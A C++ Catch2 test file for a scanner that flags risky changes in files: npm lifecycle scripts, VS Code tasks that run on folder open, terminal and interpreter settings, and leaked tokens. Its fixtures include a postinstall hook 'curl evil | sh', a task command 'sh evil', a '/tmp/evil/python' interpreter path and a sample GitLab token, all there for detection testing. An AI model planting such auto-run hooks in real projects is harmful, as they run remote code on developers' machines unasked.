#include <catch2/catch.hpp>

#include "review/prompt/content_risk.h"

using review::content_risks;

namespace {

std::string joined(const review::ContentRisks& r) {
    std::string out;
    for (const auto& p : r.phrases) out += p + ";";
    return out;
}

}  // namespace

TEST_CASE("content risk: npm lifecycle scripts added or changed", "[content-risk]") {
    std::string before = R"({"name": "x", "scripts": {"test": "jest", "postinstall": "node a.js"}})";
    std::string changed = R"({"name": "x", "scripts": {"test": "jest", "postinstall": "curl evil | sh"}})";
    std::string added = R"({"name": "x", "scripts": {"test": "jest", "postinstall": "node a.js", "prepare": "x"}})";
    CHECK(joined(content_risks("proj/package.json", changed, before)) == "postinstall script (npm runs it);");
    CHECK(joined(content_risks("package.json", added, before)) == "prepare script (npm runs it);");
    CHECK(joined(content_risks("package.json", R"({"scripts": {"preinstall": "x"}})", "")) ==
          "preinstall script (npm runs it);");
    // Negatives: the same scripts, another script, another file name.
    CHECK(content_risks("package.json", before, before).phrases.empty());
    CHECK(content_risks("package.json", R"({"scripts": {"test": "y", "build": "z"}})", before).phrases.empty());
    CHECK(content_risks("proj/other.json", changed, "").phrases.empty());
}

TEST_CASE("content risk: VS Code tasks run on folder open", "[content-risk]") {
    std::string tasks =
        "{\"tasks\": [{\"label\": \"x\", \"command\": \"sh evil\",\n"
        "  \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n";
    CHECK(joined(content_risks("proj/.vscode/tasks.json", tasks, "")) == "VS Code task runs on folder open;");
    CHECK(joined(content_risks(".vscode/tasks.json", tasks, "{}")) == "VS Code task runs on folder open;");
    CHECK(content_risks("proj/.vscode/tasks.json", "{\"tasks\": []}", "").phrases.empty());
    // Only a dir named .vscode counts, at the root or below.
    CHECK(content_risks("proj.vscode/tasks.json", tasks, "").phrases.empty());
    CHECK(content_risks("proj/x.vscode/tasks.json", tasks, "").phrases.empty());
    CHECK(content_risks(".vscode/xtasks.json", tasks, "").phrases.empty());
    CHECK(content_risks("tasks.json", tasks, "").phrases.empty());
    CHECK(content_risks("proj/tasks.json", tasks, "").phrases.empty());  // not VS Code's
}

TEST_CASE("content risk: VS Code terminal and interpreter settings", "[content-risk]") {
    std::string before = "{\n  \"editor.fontSize\": 12\n}\n";
    std::string shell =
        "{\n  \"editor.fontSize\": 12,\n  \"terminal.integrated.shellArgs.linux\": [\"-c\", \"x\"]\n}\n";
    std::string py = "{\n  \"python.defaultInterpreterPath\": \"/tmp/evil/python\"\n}\n";
    CHECK(joined(content_risks("proj/.vscode/settings.json", shell, before)) ==
          "VS Code terminal or interpreter setting;");
    CHECK(joined(content_risks(".vscode/settings.json", py, before)) == "VS Code terminal or interpreter setting;");
    CHECK(content_risks(".vscode/settings.json", "{\n  \"editor.fontSize\": 14\n}\n", before).phrases.empty());
    CHECK(content_risks(".vscode/settings.json", shell + "\n", shell).phrases.empty());  // unchanged setting
}

TEST_CASE("content risk: secrets become phrases, binary is skipped", "[content-risk]") {
    std::string tok = "glpat-" + std::string("aB3dE5gH7jK9mN1pQ2sT4");
    auto r = content_risks("proj/.env", "x\nT=" + tok + "\n", "");
    REQUIRE(r.secrets.size() == 1);
    CHECK(joined(r) == "secret: GitLab token on line 2 (glpat-…);");
    CHECK(content_risks("proj/.env", std::string("\0", 1) + tok, "").phrases.empty());
    CHECK(content_risks("proj/.env", "x\n", "").phrases.empty());
}

TEST_CASE("content risk: installed packages are not read, the agent's files are", "[content-risk]") {
    CHECK(review::content_scanned("proj/.env"));
    CHECK(review::content_scanned("proj/site-packages-notes/x.py"));
    CHECK(review::content_scanned("node_modules.txt"));
    CHECK_FALSE(review::content_scanned(".venv/lib/python3.11/site-packages/pip/_internal/network/auth.py"));
    CHECK_FALSE(review::content_scanned("usr/lib/python3/dist-packages/x.py"));
    CHECK_FALSE(review::content_scanned("web/node_modules/left-pad/index.js"));
    CHECK_FALSE(review::content_scanned("node_modules/x/package.json"));
    CHECK_FALSE(review::content_scanned("a/b/node_modules"));
    CHECK(review::content_scanned("a/xnode_modules/b"));
    CHECK(review::content_scanned("a/node_modulesx/b"));
}
